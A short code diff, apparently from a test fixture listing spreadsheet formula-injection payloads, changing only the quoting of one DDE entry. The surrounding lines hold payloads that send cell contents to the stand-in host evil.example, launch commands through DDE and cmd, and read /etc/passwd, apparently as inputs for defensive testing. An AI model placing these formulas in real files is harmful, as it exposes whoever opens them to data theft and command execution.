@@ -14,7 +14,7 @@ FORMULAS = [
     '=HYPERLINK("http://evil.example?x="&A1,"click")',
     '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
     '=WEBSERVICE("http://evil.example")',
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=DDE("cmd";"/C calc";"x")',
     "=2+5+cmd|'/C calc'!A0",
     "==1",
     "='file:///etc/passwd'#$passwd.A1",
